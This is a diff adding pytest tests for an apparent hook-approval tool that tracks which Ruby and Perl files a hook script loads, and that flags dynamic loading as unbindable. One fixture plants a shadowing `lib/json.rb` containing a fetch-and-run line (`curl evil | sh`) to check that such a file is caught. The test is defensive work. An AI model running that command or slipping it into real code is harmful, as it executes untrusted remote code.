@@ -228,3 +228,67 @@ def test_what_a_script_writes_to_is_not_bound(workspace: Path) -> None:
     (workspace / "scripts" / "a.sh").write_text("echo ran >> hook.log\necho ran 2>&1 >hook.log\nsh scripts/b.sh\n")
     (workspace / "scripts" / "b.sh").write_text("true\n")
     assert sorted(bound_paths(binding("sh scripts/a.sh", workspace))) == ["scripts/a.sh", "scripts/b.sh"]
+
+
+def test_a_ruby_script_binds_what_it_requires_and_loads(workspace: Path) -> None:
+    """`require_relative` beside it, `load` and `require './…'` from the workspace, a library's name as `lib/`
+    holds it (`ruby -Ilib`), and a script its strings name; a library a pull adds under `lib/` asks again."""
+    tools = workspace / "tools"
+    (tools / "lib").mkdir()
+    (tools / "lib" / "helpers.rb").write_text("X = 1\n")
+    (tools / "extra.rb").write_text("Y = 2\n")
+    (tools / "hook.rb").write_text(
+        "# require the helpers first\nrequire_relative 'lib/helpers'\nrequire 'json'\n"
+        "load 'tools/extra.rb'\nsystem(\"sh scripts/a.sh\")\n"
+    )
+    before = binding("ruby tools/hook.rb", workspace)
+    assert sorted(bound_paths(before)) == ["scripts/a.sh", "tools/extra.rb", "tools/hook.rb", "tools/lib/helpers.rb"]
+    (workspace / "lib").mkdir()
+    (workspace / "lib" / "json.rb").write_text("system('curl evil | sh')\n")  # what `ruby -Ilib` would load
+    assert "lib/json.rb" in bound_paths(binding("ruby tools/hook.rb", workspace))
+    (tools / "lib" / "helpers.rb").write_text("X = 3\n")
+    assert binding("ruby tools/hook.rb", workspace) != before
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "require_relative name",
+        'require "#{dir}/x"',
+        "Dir['plugins/*.rb'].each { |f| require f }",
+        "eval(File.read('x.rb'))",
+        "$LOAD_PATH.unshift(dir)",
+        "$: << 'vendor'",
+        "send(:require, name)",
+        "instance_eval(code)",
+    ],
+)
+def test_a_ruby_script_that_loads_code_named_when_it_runs_is_unbindable(workspace: Path, line: str) -> None:
+    (workspace / "tools" / "hook.rb").write_text(f"puts 1\n{line}\n")
+    assert binding("ruby tools/hook.rb", workspace).startswith(UNBINDABLE), line
+
+
+def test_a_perl_script_binds_its_modules_under_its_lib_folders_and_the_files_it_requires(workspace: Path) -> None:
+    """FindBin's `use lib "$FindBin::Bin/lib"` is the script's own folder's lib; `use My::Helpers` a file there;
+    `require`/`do` of a file; `use parent` loads its base; an `eval` block is only exception handling."""
+    tools = workspace / "tools"
+    (tools / "lib" / "My").mkdir(parents=True)
+    (tools / "lib" / "My" / "Helpers.pm").write_text("package My::Helpers; 1;\n")
+    (tools / "lib" / "My" / "Base.pm").write_text("package My::Base; 1;\n")
+    (tools / "extra.pl").write_text("1;\n")
+    (tools / "hook.pl").write_text(
+        '#!/usr/bin/env perl\nuse strict;\nuse FindBin;\nuse lib "$FindBin::Bin/lib";\nuse My::Helpers;\n'
+        "use parent -norequire, 'My::Base';\nrequire 'tools/extra.pl';\neval { risky() };\n"
+        "=pod\n\nrequire $x in the docs is not code\n\n=cut\n1;\n__END__\neval $anything\n"
+    )
+    bound = sorted(bound_paths(binding("perl tools/hook.pl", workspace)))
+    assert bound == ["tools/extra.pl", "tools/hook.pl", "tools/lib/My/Base.pm", "tools/lib/My/Helpers.pm"], bound
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["require $module;", "eval $code;", 'eval "use $m";', "do $file;", "push @INC, $dir;", "use lib $ENV{LIB};"],
+)
+def test_a_perl_script_that_loads_code_named_when_it_runs_is_unbindable(workspace: Path, line: str) -> None:
+    (workspace / "tools" / "hook.pl").write_text(f"use strict;\n{line}\n1;\n")
+    assert binding("perl tools/hook.pl", workspace).startswith(UNBINDABLE), line
